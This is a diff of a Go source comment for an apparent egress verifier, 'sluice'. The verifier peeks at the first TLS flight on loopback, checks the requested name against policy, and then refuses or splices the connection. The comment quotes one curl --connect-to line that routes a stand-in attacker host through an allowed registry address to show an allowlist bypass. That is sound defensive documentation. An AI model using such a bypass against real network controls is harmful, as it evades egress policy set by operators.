@@ -9,12 +9,14 @@
 // Host, so an allowed name's address alone is open to all of them
 // (curl --connect-to attacker.example:443:registry.npmjs.org:443). The
 // datapath (bpf/verify.h) sends such connections to the session's
-// verifier on loopback, keeping where they meant to go; the verifier reads
-// the first flight (at most MaxFlight bytes, within FlightTimeout), and
-// either refuses the connection with a reset and a Refusal, or dials the
-// original address, writes the bytes it read, untouched, and splices the
-// two sockets (io.Copy between *net.TCPConn uses splice(2) on Linux). No
-// byte is decrypted and no certificate of sluice's is ever shown.
+// verifier on loopback, keeping where they meant to go; the verifier peeks
+// at the first flight (at most MaxFlight bytes, within FlightTimeout;
+// PeekFlight leaves it queued), and either refuses the connection with a
+// reset and a Refusal, or splices it to the original address, the flight
+// first, untouched: by io.Copy (splice(2) on Linux) or, where the caller
+// provides one (Config.Splice), in the kernel. On 80 and 443 the original
+// address is dialled while the flight comes. No byte is decrypted and no
+// certificate of sluice's is ever shown.
 //
 // What is checked: the name must be allowed by the session's policy (an
 // exact or wildcard entry), not necessarily one the address was learned
